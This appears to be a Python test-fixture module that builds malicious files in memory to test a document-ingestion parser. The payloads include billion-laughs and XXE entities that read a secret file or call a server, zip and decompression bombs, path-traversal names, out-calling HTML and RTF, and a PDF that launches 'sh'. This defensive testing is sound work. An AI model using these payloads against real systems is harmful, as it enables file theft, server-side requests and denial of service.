"""Files built to do harm, as functions that make their bytes; none of them is kept on disk."""

from __future__ import annotations

import struct
import zipfile
import zlib
from base64 import b64encode
from collections.abc import Callable
from io import BytesIO

from tests.services.ingest.conftest import zipped

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
ODF = "urn:oasis:names:tc:opendocument:xmlns"
ODF_SPACES = " ".join(f'xmlns:{name}="{ODF}:{name}:1.0"' for name in ("office", "text", "table", "style"))
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels"'
    ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml"'
    ' ContentType="application/xml"/><Override PartName="/word/document.xml"'
    ' ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="word/document.xml"/></Relationships>'
)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
HEAD = b"From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"


def docx(body: str = "", *, prolog: str = "", **more: str | bytes) -> bytes:
    """A Word document from the XML inside its body."""
    document = f"{prolog}<w:document {W} {R}><w:body>{body}</w:body></w:document>"
    return zipped({"[Content_Types].xml": TYPES, "_rels/.rels": RELS, "word/document.xml": document, **more})


def odt(body: str = "", *, prolog: str = "", **more: str | bytes) -> bytes:
    """An OpenDocument text from the XML inside its body."""
    content = (
        f"{prolog}<office:document-content {ODF_SPACES}><office:body><office:text>{body}</office:text></office:body>"
        "</office:document-content>"
    )
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content, **more})


def epub(chapter: str | bytes = "<p>x</p>", *, items: str = "", spine: str = "", **more: str | bytes) -> bytes:
    """An e-book of one chapter."""
    package = (
        '<package xmlns="http://www.idpf.org/2007/opf"><metadata/><manifest><item id="a" href="a.xhtml"'
        f' media-type="application/xhtml+xml"/>{items}</manifest><spine><itemref idref="a"/>{spine}</spine></package>'
    )
    container = '<container><rootfiles><rootfile full-path="b.opf"/></rootfiles></container>'
    return zipped(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": container,
            "b.opf": package,
            "a.xhtml": chapter,
            **more,
        }
    )


def p(words: str) -> str:
    """A paragraph of Word."""
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def pdf(*objects: str | bytes, root: int = 1, trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1, with a right table of places."""
    made, places = b"%PDF-1.7\n", []
    for number, found in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + (found.encode("latin-1") if isinstance(found, str) else found) + b"\nendobj\n"
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R {trailer} >>\nstartxref\n{len(made)}\n%%EOF"
    return made + table + end.encode()


def stream(content: bytes, filters: str = "") -> bytes:
    """A PDF stream object."""
    return f"<< /Length {len(content)} {filters} >>\nstream\n".encode() + content + b"\nendstream"


def pdf_page(content: bytes, *, filters: str = "", resources: str = "", more: tuple[str | bytes, ...] = ()) -> bytes:
    """A PDF of one page that draws `content`."""
    return pdf(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R"
        f" /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> {resources} >> >>",
        stream(content, filters),
        *more,
    )


def quine_like_zip(depth: int) -> bytes:
    """A zip in a zip in a zip."""
    made = b"x"
    for level in range(depth):
        made = zipped({f"{level}.zip": made})
    return made


def overlapping_zip() -> bytes:
    """Hundreds of directory entries for one and the same packed part."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = body.compress(b"\0" * 900_000) + body.flush()
    name = b"word/document.xml"
    checksum = zlib.crc32(b"\0" * 900_000)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, checksum, len(packed), 900_000, len(name), 0)
    made = local + name + packed
    start, entries = len(made), b""
    for number in range(2_000):
        label = b"word/a%d.xml" % number
        entries += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\1\2",
                20,
                20,
                0,
                8,
                0,
                0,
                checksum,
                len(packed),
                900_000,
                len(label),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + label
        )
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 2_000, 2_000, len(entries), start, 0)
    return made + entries + end


def lying_zip(size: int) -> bytes:
    """A document whose part declares another size than it has."""
    content = bytearray(docx(p("x") * 2_000))
    at = content.index(b"word/document.xml", content.index(b"PK\x01\x02")) - 46 + 24
    content[at : at + 4] = struct.pack("<I", size)
    return bytes(content)


def encrypted_zip() -> bytes:
    """A document whose parts say that they need a password."""
    content = bytearray(docx(p("x")))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := content.find(mark, at + 1)) >= 0:
            content[at + offset] |= 1
    return bytes(content)


def twice_named() -> bytes:
    """A document with two different parts of one name."""
    made = BytesIO(docx(p("x")))
    with zipfile.ZipFile(made, "a") as archive:
        archive.fp.seek(0, 2)
        info = zipfile.ZipInfo("word/document.xml")
        archive.NameToInfo.pop("word/document.xml")
        archive.writestr(info, f"<w:document {W}><w:body>{p('other')}</w:body></w:document>")
    return made.getvalue()


def nested_mail(depth: int) -> bytes:
    """Multiparts in multiparts."""
    made = b"Content-Type: text/plain\r\n\r\ndeep"
    for level in range(depth):
        mark = b"b%d" % level
        made = b'Content-Type: multipart/mixed; boundary="%s"\r\n\r\n--%s\r\n%s\r\n--%s--' % (mark, mark, made, mark)
    return HEAD + made


def attached(head: bytes, content: bytes) -> bytes:
    """A message with words and one attachment."""
    return (
        HEAD
        + b'Content-Type: multipart/mixed; boundary="xx"\r\n\r\n--xx\r\nContent-Type: text/plain\r\n\r\nWords.\r\n--xx\r\n'
        + head
        + b"\r\n\r\n"
        + content
        + b"\r\n--xx--\r\n"
    )


Cases = dict[str, tuple[str, Callable[[], bytes]]]


def cases(secret: str, address: str) -> dict[str, Cases]:
    """Kind -> name -> (file name, maker); `secret` is the path of a file not to be read, `address` a server not to be called."""
    file_entity = f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]>'
    web_entity = f'<!DOCTYPE d [<!ENTITY % x SYSTEM "{address}/x.dtd"> %x;]>'
    deep = 30_000
    text: Cases = {
        "empty": ("a.txt", lambda: b""),
        "only NULs": ("a.txt", lambda: b"\0" * 3_000_000),
        "words between NULs": ("a.txt", lambda: b"word\0 and\0 word " * 3_000),
        "every control character": ("a.txt", lambda: bytes(range(256)) * 4_000),
        "direction marks": ("a.txt", lambda: "\u202e\u2066abc\u2069 \u202d\u200f".encode() * 100_000),
        "half characters": ("a.txt", lambda: b"\xed\xa0\x80\xed\xb0\x80 words " * 100_000),
        "a million accents on one letter": ("a.txt", lambda: ("a" + "\u0301\u0316" * 500_000).encode()),
        "one line of 20 MB": ("a.txt", lambda: b"x" * 20_000_000),
        "ten million empty lines": ("a.txt", lambda: b"\n" * 10_000_000 + b"word"),
        "cut UTF-16": ("a.txt", lambda: "mot".encode("utf-16") * 50_000 + b"\xd8"),
        "escapes of Japanese mail": ("a.txt", lambda: b"\x1b$B" * 300_000),
        "markdown fences": ("a.md", lambda: b"```\n" * 150_000),
        "markdown quotes": ("a.md", lambda: b">" * 2_000_000),
        "markdown header without end": ("a.md", lambda: b"---\n" + b"title: x\n" * 150_000),
    }
    web: Cases = {
        "a million attributes": ("a.html", lambda: b"<p " + b"a=1 " * 1_000_000 + b">words</p>"),
        "200,000 different attributes": (
            "a.html",
            lambda: b"<p " + b" ".join(b"a%d=1" % n for n in range(200_000)) + b">w",
        ),
        "elements 200,000 deep": ("a.html", lambda: b"<div>" * 200_000 + b"words"),
        "inline elements 200,000 deep": ("a.html", lambda: b"<html><b><i>" * 100_000 + b"words"),
        "end tags only": ("a.html", lambda: b"<html>" + b"</p></div></b>" * 100_000 + b"words"),
        "open tags without end": ("a.html", lambda: b"<html>words" + b"<a " * 1_000_000),
        "open comments": ("a.html", lambda: b"<html>words" + b"<!--" * 1_000_000),
        "open declarations": ("a.html", lambda: b"<html>words" + b"<!x" * 500_000 + b"<?" * 500_000),
        "open scripts": ("a.html", lambda: b"<html>words" + b"<script>" * 300_000),
        "open CDATA": ("a.html", lambda: b"<html>words" + b"<![CDATA[" * 300_000),
        "entities without end": ("a.html", lambda: b"<html>" + b"&#" * 1_000_000 + b"words" + b"&a" * 1_000_000),
        "huge character numbers": ("a.html", lambda: b"<html>words" + b"&#999999999999;&#xD800;" * 100_000),
        "tables in tables": ("a.html", lambda: b"<table><tr><td>" * 15_000 + b"words"),
        "lists in lists": ("a.html", lambda: b"<ul><li>x" * 9_000 + b"words"),
        "style rules without end": ("a.html", lambda: b"<style>" + b".a{display:none" * 200_000 + b"</style><p>words"),
        "style comments": ("a.html", lambda: b"<style>" + b"/*" * 500_000 + b"</style><p>words"),
        "20,000 style rules": (
            "a.html",
            lambda: (
                b"<style>"
                + b"".join(b".a%d{display:none}" % n for n in range(100_000))
                + b"</style>"
                + b"<p class='"
                + b"a1 " * 100_000
                + b"'>words</p><p>seen"
            ),
        ),
        "deep JSON-LD": (
            "a.html",
            lambda: b"<script type=application/ld+json>" + b"[" * 400_000 + b"</script><p>words",
        ),
        "page that calls out": (
            "a.html",
            lambda: (
                f'<html><base href="{address}"><link rel=stylesheet href="{address}/a.css"><iframe src="{address}">'
                f'</iframe><img src="{address}/a.png"><object data="file://{secret}"></object><p>words'.encode()
            ),
        ),
        "page with entities of its own": (
            "a.html",
            lambda: f"<!DOCTYPE html [<!ENTITY x SYSTEM 'file://{secret}'>]><p>words &x;".encode(),
        ),
        "frameset page in UTF-7": ("a.html", lambda: b'<meta charset="utf-7"><p>+ADw-script+AD4-words'),
    }
    office: Cases = {
        "billion laughs in docx": (
            "a.docx",
            lambda: docx(p("&l9;"), prolog=f"<!DOCTYPE d [<!ENTITY l0 'ha'>{LAUGHS}]>"),
        ),
        "billion laughs in odt": ("a.odt", lambda: odt("&l9;", prolog=f"<!DOCTYPE d [<!ENTITY l0 'ha'>{LAUGHS}]>")),
        "file entity in docx": ("a.docx", lambda: docx(p("&x;"), prolog=file_entity)),
        "file entity in odt": ("a.odt", lambda: odt("<text:p>&x;</text:p>", prolog=file_entity)),
        "web entity in docx": ("a.docx", lambda: docx(p("x"), prolog=web_entity)),
        "web entity in a header": ("a.docx", lambda: docx(p("x"), **{"word/header1.xml": f"{web_entity}<w:hdr {W}/>"})),
        "web entity in odt styles": ("a.odt", lambda: odt("<text:p>x</text:p>", **{"styles.xml": f"{web_entity}<a/>"})),
        "docx bomb": ("a.docx", lambda: docx(p("x"), **{"word/media.xml": b"\0" * 250_000_000})),
        "odt bomb": ("a.odt", lambda: odt(**{"content.xml": b" " * 250_000_000})),
        "parts that overlap": ("a.docx", overlapping_zip),
        "a part that says 4 GB": ("a.docx", lambda: lying_zip(0xFFFFFFF0)),
        "a part that says 10 bytes": ("a.docx", lambda: lying_zip(10)),
        "zip in zip in zip": ("a.docx", lambda: quine_like_zip(60)),
        "20,000 parts": ("a.docx", lambda: docx(p("x"), **{f"word/{n}.xml": "" for n in range(20_000)})),
        "docx with a password by parts": ("a.docx", encrypted_zip),
        "docx with a password": ("a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
        "travelling part names": (
            "a.docx",
            lambda: docx(p("x"), **{"../../evil.xml": "x", "/etc/evil": "x", "word\\..\\evil": "x", "a\0b": "x"}),
        ),
        "docx nested deeply": (
            "a.docx",
            lambda: docx("<w:tbl><w:tr><w:tc>" * 80 + p("x") + "</w:tc></w:tr></w:tbl>" * 80),
        ),
        "docx nested too deeply": (
            "a.docx",
            lambda: docx("<w:sdt><w:sdtContent>" * deep + "</w:sdtContent></w:sdt>" * deep),
        ),
        "docx with 100,000 attributes": (
            "a.docx",
            lambda: docx("<w:p " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>" + p("x")),
        ),
        "docx that links to a file": (
            "a.docx",
            lambda: docx(
                p("x"),
                **{
                    "word/_rels/document.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                    f'relationships"><Relationship Id="rId9" TargetMode="External" Type="x" Target="file://{secret}"/>'
                    "</Relationships>"
                },
            ),
        ),
        "docx style that inherits itself": (
            "a.docx",
            lambda: docx(
                '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>',
                **{
                    "word/styles.xml": f'<w:styles {W}><w:style w:styleId="a"><w:basedOn w:val="a"/></w:style></w:styles>'
                },
            ),
        ),
        "docx without words": ("a.docx", lambda: docx("<w:p/>" * 5_000)),
        "docx cut short": ("a.docx", lambda: docx(p("words") * 500)[:-300]),
        "odt with repeats": (
            "a.odt",
            lambda: odt(
                '<table:table><table:table-row table:number-rows-repeated="99999999"><table:table-cell'
                ' table:number-columns-repeated="99999999"><text:p>x<text:s text:c="99999999"/>y</text:p></table:table-cell>'
                "</table:table-row></table:table>"
            ),
        ),
        "odt spans nested deeply": (
            "a.odt",
            lambda: odt("<text:p>" + "<text:span>" * 240 + "x" + "</text:span>" * 240 + "</text:p>"),
        ),
        "odt lists nested deeply": (
            "a.odt",
            lambda: odt(
                "<text:list><text:list-item>" * 120 + "<text:p>x</text:p>" + "</text:list-item></text:list>" * 120
            ),
        ),
        "odt nested too deeply": ("a.odt", lambda: odt("<text:section>" * deep + "</text:section>" * deep)),
        "odt with a password": (
            "a.odt",
            lambda: odt("<text:p>x</text:p>", **{"META-INF/manifest.xml": "<a><encryption-data/></a>"}),
        ),
        "a PDF called docx": ("a.docx", lambda: pdf_page(b"BT /F 12 Tf 50 700 Td (Words that anyone can read) Tj ET")),
        "a program called docx": ("a.docx", lambda: b"MZ\x90\0" + bytes(range(256)) * 100),
        "a program called txt": ("a.txt", lambda: b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 100),
    }
    books: Cases = {
        "e-book bomb": ("a.epub", lambda: epub(b" " * 250_000_000)),
        "locked e-book": (
            "a.epub",
            lambda: epub(
                **{
                    "META-INF/encryption.xml": '<encryption xmlns:e="http://www.w3.org/2001/04/xmlenc#"><e:EncryptedData>'
                    '<e:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/></e:EncryptedData></encryption>'
                }
            ),
        ),
        "file entity in a chapter": ("a.epub", lambda: epub(f"{file_entity}<p>words &x;</p>")),
        "file entity in a package": ("a.epub", lambda: epub(**{"b.opf": f"{file_entity}<package>&x;</package>"})),
        "chapters outside the book": (
            "a.epub",
            lambda: epub(
                "<p>words</p>",
                items=f'<item id="b" href="../../../..{secret}"/><item id="c" href="{address}/a.xhtml"/>',
                spine='<itemref idref="b"/><itemref idref="c"/>',
            ),
        ),
        "spine of 300,000": ("a.epub", lambda: epub("<p>words</p>", spine='<itemref idref="a"/>' * 300_000)),
        "e-book package that is its own chapter": (
            "a.epub",
            lambda: epub("<p>words</p>", items='<item id="b" href="b.opf"/>', spine='<itemref idref="b"/>'),
        ),
        "page breaks only": ("a.epub", lambda: epub('<p>w<span epub:type="pagebreak" title="1"/></p>' * 20_000)),
    }
    rich: Cases = {
        "rich text nested deeply": ("a.rtf", lambda: b"{\\rtf1 " + b"{" * 3_000_000 + b"words"),
        "rich text of end braces": ("a.rtf", lambda: b"{\\rtf1 words" + b"}" * 3_000_000),
        "binary part of 9 GB": ("a.rtf", lambda: b"{\\rtf1 words{\\pict\\bin9999999999 x}}"),
        "negative binary part": ("a.rtf", lambda: b"{\\rtf1 words\\bin-9999999 x}" * 10_000),
        "rich text that skips all": ("a.rtf", lambda: b"{\\rtf1 words\\uc9999999\\u65?" + b"x" * 1_000_000 + b"}"),
        "control words without end": ("a.rtf", lambda: b"{\\rtf1 words" + b"\\" + b"a" * 5_000_000),
        "notes in notes": ("a.rtf", lambda: b"{\\rtf1 words" + b"{\\footnote x" * 4_000 + b"}" * 4_001),
        "boxes in boxes": (
            "a.rtf",
            lambda: b"{\\rtf1 words" + b"{\\shp{\\*\\shpinst{\\shptxt x" * 1_500 + b"}" * 5_000,
        ),
        "unicode twins": ("a.rtf", lambda: b"{\\rtf1 words" + b"{\\upr{" * 200_000),
        "a row of 300,000 cells": ("a.rtf", lambda: b"{\\rtf1\\intbl " + b"x\\cell" * 300_000 + b"\\row}"),
        "half characters in rich text": ("a.rtf", lambda: b"{\\rtf1 words" + b"\\u-10240?" * 60_000 + b"}"),
        "rich text that calls out": (
            "a.rtf",
            lambda: (
                '{\\rtf1 words{\\field{\\*\\fldinst INCLUDEPICTURE "' + address + '/a.png"}{\\fldrslt }}'
                "{\\object\\objautlink{\\*\\objdata 0105}}{\\*\\template " + secret + "}}"
            ).encode(),
        ),
    }
    mail: Cases = {
        "150,000 headers": (
            "a.eml",
            lambda: HEAD + b"".join(b"X-%d: y\r\n" % n for n in range(150_000)) + b"\r\nwords",
        ),
        "one header of 20 MB": ("a.eml", lambda: HEAD + b"X: " + b"y" * 20_000_000 + b"\r\n\r\nwords"),
        "a subject of folded lines": (
            "a.eml",
            lambda: b"From: a\r\nSubject: x\r\n" + b" y\r\n" * 200_000 + b"\r\nwords",
        ),
        "a million recipients": ("a.eml", lambda: b"From: a@b\r\nTo: " + b"a@b.c, " * 1_000_000 + b"\r\n\r\nwords"),
        "senders in brackets": ("a.eml", lambda: b"From: " + b"(" * 300_000 + b"\r\nTo: a\r\n\r\nwords"),
        "encoded words": ("a.eml", lambda: b"From: a\r\nSubject: " + b"=?utf-8?b?w6k=?= " * 300_000 + b"\r\n\r\nwords"),
        "encoded words without end": (
            "a.eml",
            lambda: b"From: a\r\nSubject: " + b"=?utf-8?q?" * 300_000 + b"\r\n\r\nwords",
        ),
        "charset that unpacks": ("a.eml", lambda: HEAD + b"Content-Type: text/plain; charset=zlib_codec\r\n\r\nwords"),
        "charset without end": (
            "a.eml",
            lambda: HEAD + b"Content-Type: text/plain; charset=" + b"x" * 100_000 + b"\r\n\r\nwords",
        ),
        "multiparts 60 deep": ("a.eml", lambda: nested_mail(60)),
        "multiparts 3,000 deep": ("a.eml", lambda: nested_mail(3_000)),
        "messages 3,000 deep": ("a.eml", lambda: HEAD + b"Content-Type: message/rfc822\r\n\r\n" * 3_000 + b"\r\nwords"),
        "30,000 parts": (
            "a.eml",
            lambda: (
                HEAD
                + b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n'
                + b"--x\r\n\r\nwords\r\n" * 30_000
                + b"--x--"
            ),
        ),
        "a boundary that never comes": (
            "a.eml",
            lambda: HEAD + b"Content-Type: multipart/mixed; boundary=q\r\n\r\n" + b"--\r\n" * 100_000,
        ),
        "boundary of nothing": (
            "a.eml",
            lambda: HEAD + b'Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n\r\nwords',
        ),
        "attachment names that travel": (
            "a.eml",
            lambda: attached(b'Content-Type: text/plain; name="../../../../var/evil.txt"', b"x"),
        ),
        "attachment name of a megabyte": (
            "a.eml",
            lambda: attached(
                b"Content-Type: text/plain\r\nContent-Disposition: attachment; filename=" + b"a" * 1_000_000, b"x"
            ),
        ),
        "attachment name in 10,000 pieces": (
            "a.eml",
            lambda: attached(
                b"Content-Type: application/pdf;" + b";".join(b"\r\n name*%d*=a" % n for n in range(10_000)), b"x"
            ),
        ),
        "broken base64": (
            "a.eml",
            lambda: attached(b"Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64", b"=A=" * 300_000),
        ),
        "attached bomb": (
            "a.eml",
            lambda: attached(
                b"Content-Type: application/zip; name=b.docx\r\nContent-Transfer-Encoding: base64",
                b64encode(docx(p("x"), **{"word/media.xml": b"\0" * 250_000_000})),
            ),
        ),
        "message locked with S/MIME": (
            "a.eml",
            lambda: HEAD + b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nMIAG",
        ),
        "part that names a file": (
            "a.eml",
            lambda: (
                HEAD
                + f'Content-Type: message/external-body; access-type=local-file; name="{secret}"\r\n\r\n\r\n'.encode()
            ),
        ),
        "an archive of 200,000 messages": (
            "a.mbox",
            lambda: b"From a Tue Jun  4 23:30:00 2024\nSubject: x\n\nwords\n\n" * 200_000,
        ),
        "From lines only": ("a.mbox", lambda: b"From \n" * 200_000),
        "saved page without a page": (
            "a.mhtml",
            lambda: (
                HEAD
                + b"Content-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: image/png\r\n\r\nx\r\n--x--"
            ),
        ),
        "saved page that calls out": (
            "a.mhtml",
            lambda: (
                HEAD
                + b"Content-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\nContent-Location: file://"
                + secret.encode()
                + f"\r\n\r\n<img src={address}>words\r\n--x--".encode()
            ),
        ),
    }
    references: Cases = {
        "deep JSON": ("a.json", lambda: b"[" * 2_000_000),
        "JSON with a number of a million digits": (
            "a.json",
            lambda: b'[{"type":"book","title":"x","volume":' + b"9" * 1_000_000 + b"}]",
        ),
        "open braces in BibTeX": ("a.bib", lambda: b"@book{a, title = " + b"{" * 2_000_000),
        "entries without end": ("a.bib", lambda: b"@book{" * 500_000),
        "BibTeX abbreviations that multiply": (
            "a.bib",
            lambda: (
                b"".join(b"@string{s%d = s%d # s%d}\n" % (n + 1, n, n) for n in range(60)).replace(
                    b"= s0 # s0", b'= "ha"'
                )
                + b"@book{a, title = s60}"
            ),
        ),
        "BibTeX accents": ("a.bib", lambda: b"@book{a, title = {words " + b"\\'{" * 60_000 + b"}}"),
        "RIS lines without entry": ("a.ris", lambda: b"TY  - BOOK\nTI  - words\n" + b"AU  - x\n" * 200_000),
        "RIS field of 10 MB": ("a.ris", lambda: b"TY  - BOOK\nTI  - words\nAB  - " + b"x\n" * 3_000_000),
    }
    loop = "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"
    show = b"BT /F 12 Tf 50 700 Td (Words that anyone can read) Tj ET"
    pages = " ".join(["3 0 R"] * 20_000)
    form = "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>"
    prints: Cases = {
        "pages that are their own parents": ("a.pdf", lambda: pdf("<< /Type /Catalog /Pages 2 0 R >>", loop)),
        "a catalogue that is its pages": (
            "a.pdf",
            lambda: pdf("<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] /Count 9 >>"),
        ),
        "a page two billion times": (
            "a.pdf",
            lambda: pdf(
                "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2147483647 >>"
            ),
        ),
        "one page listed 20,000 times": (
            "a.pdf",
            lambda: pdf(
                "<< /Type /Catalog /Pages 2 0 R >>",
                f"<< /Type /Pages /Kids [{pages}] /Count 20000 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F << /Type /Font"
                " /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
                stream(show),
            ),
        ),
        "a form that draws itself": (
            "a.pdf",
            lambda: pdf_page(
                show + b" /X Do",
                resources="/XObject << /X 5 0 R >>",
                more=(form.encode() + b" /Length 5 >>\nstream\n/X Do\nendstream",),
            ),
        ),
        "a stream that unpacks to 1 GB": (
            "a.pdf",
            lambda: pdf_page(
                zlib.compress(zlib.compress(b" " * 400_000_000, 9), 9), filters="/Filter [/FlateDecode /FlateDecode]"
            ),
        ),
        "twenty filters": ("a.pdf", lambda: pdf_page(show, filters="/Filter [" + "/ASCIIHexDecode " * 20_000 + "]")),
        "arrays in arrays": (
            "a.pdf",
            lambda: pdf("<< /Type /Catalog /Pages 2 0 R /X " + "[" * 300_000 + "]" * 300_000 + " >>", loop),
        ),
        "a table of places that loops": (
            "a.pdf",
            lambda: pdf_page(show).replace(b"trailer\n<<", b"trailer\n<< /Prev 9"),
        ),
        "a length that lies": ("a.pdf", lambda: pdf_page(show).replace(b"/Length 57", b"/Length 99999999")),
        "objects in themselves": (
            "a.pdf",
            lambda: pdf(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /ObjStm /N 9 /First 0 /Extends 2 0 R /Length 0 >>\nstream\n\nendstream",
            ),
        ),
        "a million operators": ("a.pdf", lambda: pdf_page(b"q " * 1_000_000 + show)),
        "letters a million times": (
            "a.pdf",
            lambda: pdf_page(b"BT /F 1 Tf 50 700 Td " + b"(words and words) Tj " * 60_000 + b"ET"),
        ),
        "a page ten million points wide": ("a.pdf", lambda: pdf_page(show).replace(b"[0 0 600 800]", b"[0 0 9e9 9e9]")),
        "a PDF that starts programs": (
            "a.pdf",
            lambda: pdf_page(show).replace(
                b"/Type /Catalog",
                f"/Type /Catalog /OpenAction << /S /URI /URI ({address}) /Next << /S /Launch /F (sh) >> >>".encode(),
            ),
        ),
        "a PDF with a password": (
            "a.pdf",
            lambda: pdf(
                "<< /Type /Catalog /Pages 2 0 R >>",
                loop,
                f"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <{'41' * 32}> /U <{'42' * 32}> >>",
                trailer="/Encrypt 3 0 R /ID [<00><00>]",
            ),
        ),
        "PDF cut short": ("a.pdf", lambda: pdf_page(show)[:200]),
        "only a PDF's first line": ("a.pdf", lambda: b"%PDF-1.7\n"),
        "PDF of noise": ("a.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 20_000),
    }
    return {
        "text": text,
        "web": web,
        "office": office,
        "books": books,
        "rich text": rich,
        "mail": mail,
        "references": references,
        "pdf": prints,
    }
